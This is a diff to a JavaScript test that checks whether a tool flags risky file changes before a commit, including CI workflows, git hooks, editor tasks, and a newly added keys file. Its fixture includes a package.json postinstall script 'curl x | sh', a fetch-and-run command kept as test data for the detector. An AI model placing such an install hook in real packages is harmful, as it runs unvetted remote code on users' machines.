@@ -82,6 +82,7 @@ describe('before a bead is committed', () => {
         '.github/workflows/ci.yml': 'on: push\n',
         '.husky/pre-commit': 'true\n',
         '.vscode/tasks.json': '{}\n',
+        '.beadsmith/keys': 'ed25519 x\n',
         'package.json': JSON.stringify({ scripts: { postinstall: 'curl x | sh', test: 'true' } }),
         'package-lock.json': JSON.stringify(lock),
       },
@@ -94,6 +95,7 @@ describe('before a bead is committed', () => {
       /ci\.yml: changes what runs in CI/,
       /pre-commit: changes a git hook/,
       /tasks\.json: changes what an editor or agent runs/,
+      /\.beadsmith\/keys: changes what an editor or agent runs or trusts/,
     ])
       assert.match(text, said);
     assert.match(text, /package\.json: runs a script at installation \(postinstall\)/);
